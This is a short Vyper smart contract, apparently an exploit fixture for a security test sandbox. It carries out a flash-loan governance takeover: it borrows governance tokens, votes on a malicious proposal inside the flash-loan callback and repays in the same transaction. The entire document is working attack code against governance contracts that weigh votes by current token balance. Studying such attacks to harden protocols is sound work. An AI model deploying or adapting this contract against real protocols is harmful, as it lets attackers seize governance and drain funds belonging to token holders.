# pragma version 0.4.3
"""
@title Attacker: flash-loan governance takeover
@notice Flash-borrows the governance token, votes with it on a malicious proposal and repays
        in the same transaction; the proposal is executed later.
@dev Revert messages are prefixed with "attack:". Sandbox use only.
"""

from ethereum.ercs import IERC20

interface IFlashLender:
    def flash_loan(receiver: address, token: address, amount: uint256, data: Bytes[1024]) -> bool: nonpayable

interface IGovernance:
    def vote(pid: uint256): nonpayable

CALLBACK_SUCCESS: constant(bytes32) = keccak256("ERC3156FlashBorrower.onFlashLoan")

owner: public(address)
lender: public(address)
governance: public(address)
token: public(address)
pending: uint256


@deploy
def __init__(lender_: address, governance_: address, token_: address):
    self.owner = msg.sender
    self.lender = lender_
    self.governance = governance_
    self.token = token_


@external
def flash_vote(pid: uint256, amount: uint256):
    """
    @notice Borrow `amount` governance tokens, vote for `pid`, repay (fee from own balance).
    """
    assert msg.sender == self.owner, "attack: not owner"
    self.pending = pid
    extcall IFlashLender(self.lender).flash_loan(self, self.token, amount, b"")


@external
def onFlashLoan(initiator: address, token: address, amount: uint256, fee: uint256, data: Bytes[1024]) -> bytes32:
    """
    @notice Flash-loan callback: vote with the borrowed balance, approve repayment.
    """
    assert msg.sender == self.lender, "attack: not lender"
    extcall IGovernance(self.governance).vote(self.pending)
    extcall IERC20(token).approve(self.lender, amount + fee)
    return CALLBACK_SUCCESS
